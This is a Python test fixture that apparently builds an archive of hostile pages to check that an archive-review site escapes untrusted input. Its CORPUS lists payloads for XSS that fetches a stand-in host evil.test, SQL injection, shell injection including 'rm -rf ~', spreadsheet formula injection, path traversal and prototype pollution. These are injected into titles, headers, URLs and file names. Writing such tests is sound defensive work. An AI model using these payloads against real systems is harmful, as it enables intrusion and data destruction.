"""An archive in which everything that the review shows means harm."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from reviewed import (
    HEIGHT,
    MOMENT,
    TODAY,
    Page,
    _probed,
    _shots,
    exchange,
    film_answers,
    film_states,
    words,
)

from archiver.decisions import put_decisions
from archiver.models import (
    Capture,
    Decision,
    Environment,
    FrameSnapshot,
    PageOrigin,
    PageSnapshot,
    PlayerOutcome,
    PlayerState,
    Post,
    Ruling,
    ScreenshotFacts,
    Target,
)
from archiver.review import ReviewSite
from archiver.snapshots import accept_capture
from archiver.source import ReadingOptions, read_kept
from archiver.store import Collection

DEED = "globalThis.hacked=1;alert(1);fetch('//evil.test/')"
CORPUS = (
    f"</script><script>{DEED}</script>",
    f'"><img src=//evil.test/i onerror="{DEED}">',
    f"'><svg/onload={DEED}>",
    f"</title></textarea></style></noscript></template><script>{DEED}</script>",
    f"<iframe srcdoc='<script>parent.{DEED}</script>'></iframe>",
    f"<base href=//evil.test/><a href=javascript:{DEED}>x</a>",
    "<link rel=stylesheet href=//evil.test/c><style>@import '//evil.test/s';*{display:none}",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<details open ontoggle=alert(1)><form action=//evil.test><button>go",
    f"javascript:{DEED}",
    " \x01javascript:alert(1)//https://evil.test/",
    "JaVaScRiPt://a.test/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.test/picture.png",
    "//evil.test/protocol-relative",
    "http://127.0.0.1:1/&accept=1#/../decide",
    "https://user:password@evil.test/",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x6a;avascript:alert(1) &quot;&amp;",
    "{{7*7}} {%raw%} ${7*7} #{7*7} <%= 7*7 %> {title} {n|page|pages} %s %n %(a)s {0.__class__}",
    "]]> <![CDATA[ --> <!-- <? ?> /* */ // # \\ \\u003cscript\\u003e",
    "'); DROP TABLE captures;-- ' OR '1'='1",
    "$(touch /tmp/evil) `id` ; rm -rf ~ | cat & \\ ' \" !!",
    "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.test/\x07link\x1b]8;;\x07\x9b31m",
    "\x00 NUL \x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f",
    "\u202egnp.exe\u202c \u2066isolated \u2067 \u061c\u200e\u200f never closed \u202d",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff soft\u00adhyphen \u180e",
    "\u2028line\u2029separators\x85 and\r\nnew\tlines",
    "half \ud83d a pair \udc00 \ufffe\uffff \ufdd0",
    "__proto__",
    "constructor",
    "toString hasOwnProperty prototype",
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    '=HYPERLINK("http://evil.test/","x")',
    "+1+cmd|' /C calc'!A0 @SUM(1) -2+3",
    "مرحبا بالعالم שלום עולם 123 (abc) ]",
    "👩‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇨🇳 ️⃣ 1️⃣",
    "Z" + "\u0335\u0321\u0322\u0327\u0328\u0301\u0300\u0302\u0308" * 40 + "algo",
    "﷽" * 40 + "\U00012031\u0bb8\u0bcd\u0bb0\u0bc0",
    "W" * 100_000,
    "长" * 3_000,
    "a/" * 2_000,
    "../../../etc/passwd\\..\\..\\ %2e%2e%2f CON NUL .",
    "＜script＞ﬀ ſ K 𝒔𝒄𝒓𝒊𝒑𝒕 ʺ＞",
    "null",
    "undefined NaN true [object Object]",
    "   ",
)
SHARED = f'https://gone.test/"><script>{DEED}</script>'
"""A picture that several articles lost: a group."""
AT_ONCE = 8


def pages() -> Iterator[tuple[str, Sequence[str], Page]]:
    """Yield slug, hostile strings and page of each article."""
    for number, chunk in enumerate(batched_corpus(), start=1):
        slug = f"hostile-{number}"
        body = list(_body(number, chunk))
        answers = [_refused(each, number, at) for at, each in enumerate(chunk)]
        answers += [exchange(f"{SHARED}?{number}", b"gone", "text/plain", status=404)]
        yield slug, chunk, Page(slug=slug, title=chunk[0], body=body, blocks=(), answers=answers)


def batched_corpus() -> Iterator[tuple[str, ...]]:
    for at in range(0, len(CORPUS), AT_ONCE):
        yield CORPUS[at : at + AT_ONCE]


def _address(text: str, number: int, at: int) -> str:
    return f"https://cdn.test/{number}/{at}.png?{text[:1_900]}"


def _refused(text: str, number: int, at: int):
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{DEED}</script></svg>".encode()
    status = (404, 403, 999)[at % 3]
    answer = exchange(_address(text, number, at), svg, "image/svg+xml", status=status)
    one = text.replace("\r", " ").replace("\n", " ")[:4_000]
    headers = (*answer.response_headers, ("X-Told", one), (f"X-{one[:90]}", "value"))
    return replace(answer, response_headers=headers, reason=one)


def _body(number: int, chunk: Sequence[str]) -> Iterator[str]:
    """Yield the lines of a post: what it promises is lost by the page."""
    for at, text in enumerate(chunk):
        told, part = _said(text), number * 100 + at
        yield f"<p>{words(part)}</p>"
        yield f'<p><img src="{_said(_address(text, number, at))}" alt="{told}"></p>'
        yield f"<p>▲{told} {words(part + 10_000)}</p>"
        yield f"<p>{told} {words(part + 20_000)}</p>"
        yield f'<p><iframe src="https://player.test/{number}/{at}?{told}"></iframe></p>'
        yield f'<p><img src="{told}" alt="{told}"></p>'
    yield f'<p><img src="{_said(f"{SHARED}?{number}")}"></p>'
    yield '<p><iframe src="https://player.test/file"></iframe></p>'


def _said(text: str) -> str:
    return html.escape(text.replace("\r\n", " "))


def _post(page: Page) -> Post:
    told = json.dumps(page.title)
    front = ["---", f"title: {told}", f"author: {told}", f"headimg: {told}", "---"]
    options = ReadingOptions(base_url=f"https://site.test/{page.slug}/")
    data = "\n".join([*front, *page.body]).encode("utf-8", "surrogatepass")
    path = Path(f"/posts/{page.slug} </script><script>alert(1)</script>\u202e\x1b[2J.md")
    return read_kept(data, path, slug=page.slug, options=options)


def _tree(number: int, chunk: Sequence[str]) -> list[object]:
    """The page as the browser tells it: the words are there, the media are not."""
    blocks: list[object] = [["h1", {}, [84, 20, 740, 60], [chunk[0]]]]
    for at, text in enumerate(chunk):
        top = 100 + 200 * at
        blocks.append(["p", {}, [84, top, 740, 60], [words(number * 100 + at)]])
        blocks.append(["p", {}, [84, top + 70, 740, 60], [f"other words {text} {at}"]])
        source = {"src": _address(text, number, at), "alt": text}
        blocks.append(["p", {}, None, [["img", source, [84, top + 140, 740, 40], []]]])
    return ["html", {}, [0, 0, 1280, HEIGHT], [["body", {}, None, blocks]]]


def _players(number: int, chunk: Sequence[str]) -> tuple[PlayerState, ...]:
    shown = PlayerOutcome.CAPTURED
    films = [replace(each, title=chunk[0], note=chunk[-1]) for each in film_states()]
    absent = [
        PlayerState(
            url=f"https://player.test/{number}/{at}?{text[:1_900]}",
            frame=0,
            provider=text[:100],
            outcome=list(PlayerOutcome)[at % len(PlayerOutcome)],
            status=999,
            note=text,
            text=text,
            title=text,
            answer=text,
            page_url=f"javascript:{text[:100]}",
            media_urls=(text[:1_900],),
        )
        for at, text in enumerate(chunk)
    ]
    return (*(each for each in films if each.outcome is shown), *absent)


def commit(collection: Collection, slug: str, chunk: Sequence[str], page: Page) -> Capture:
    """Put a page into the archive."""
    number = int(slug.partition("-")[2])
    url = f"https://site.test/{slug}/?{chunk[0][:500]}"
    target = Target(slug=slug, url=url, origin=PageOrigin.SITE, post=_post(page), html=None)
    draft = collection.draft(target)
    shots = _shots(replace(page, player_pictures=[each.url for each in _players(number, chunk)]))
    document = exchange(url, b"<script>alert(1)</script>", "text/html", "document")
    ledger = [_probed(draft.add(each), each) for each in (document, *page.answers, *film_answers())]
    told = (chunk * 5)[:5]
    capture = Capture(
        capture_id=draft.capture_id,
        slug=slug,
        url=url,
        origin=PageOrigin.SITE,
        started_at=MOMENT,
        duration_s=1.0,
        status=200,
        snapshot=PageSnapshot(
            url=url,
            title=chunk[-1],
            width_px=1280,
            height_px=HEIGHT,
            frames=(FrameSnapshot(url=url, parent=None, tree=_tree(number, chunk)),),
        ),
        ledger=tuple(ledger),
        environment=Environment(
            archiver=told[0],
            browser=told[1],
            user_agent=told[2],
            viewport_width_px=1280,
            viewport_height_px=720,
            platform=told[3],
        ),
        players=_players(number, chunk),
        pictures=tuple(
            ScreenshotFacts(kind=shot.kind, width_px=shot.width_px, height_px=shot.height_px)
            for shot in shots[:1]
        ),
    )
    return draft.commit(capture, shots, "\n".join(chunk))


def build(root: Path) -> None:
    """Build the archive, with snapshots and decisions beside it."""
    accepted = []
    with Collection.open(root / "archive") as collection:
        for slug, chunk, page in pages():
            accepted.append((commit(collection, slug, chunk, page), chunk))
        for capture, chunk in accepted[::2]:
            by = next(each for each in chunk if each.isprintable())[:200]
            accept_capture(root / "snapshots", collection, capture.capture_id, by=by, on=TODAY)
    _decide(root)


def site(root: Path, **settings: object) -> ReviewSite:
    """The review of the archive, loaded."""
    values = {"reviewer": CORPUS[0], "today": lambda: TODAY, **settings}
    loaded = ReviewSite(root / "archive", root / "snapshots", **values)
    loaded.load()
    loaded.wait(60)
    return loaded


def items(loaded: ReviewSite) -> list[dict[str, object]]:
    """Everything in the queue, as the page reads it."""
    chunks = json.loads(loaded.answer("data/summary.json", {}).body)["chunks"]
    names = [f"data/queue/{number}.json" for number in range(chunks)]
    return [each for name in names for each in json.loads(loaded.answer(name, {}).body)["items"]]


def _decide(root: Path) -> None:
    """Write down decisions of people who mean harm, on every third item."""
    unseen = re.compile(r"[\x00-\x1f\x7f-\x9f\ud800-\udfff]")
    sayings = [each[:2_000] for each in CORPUS if each.strip() and not unseen.search(each)]
    with site(root) as loaded:
        decided = [
            Decision(
                slug=str(item["slug"]),
                check=str(item["check"]),
                fingerprint=str(item["fingerprint"]),
                verdict=list(Ruling)[at % len(Ruling)],
                reason=sayings[at % len(sayings)],
                by=sayings[-1 - at % len(sayings)],
                at=TODAY,
                until=TODAY - timedelta(days=1) if at % 4 == 1 else None,
                subject=sayings[(at + 1) % len(sayings)][:300],
            )
            for at, item in enumerate(items(loaded)[::3])
        ]
    put_decisions(root / "snapshots" / "review.toml", decided)
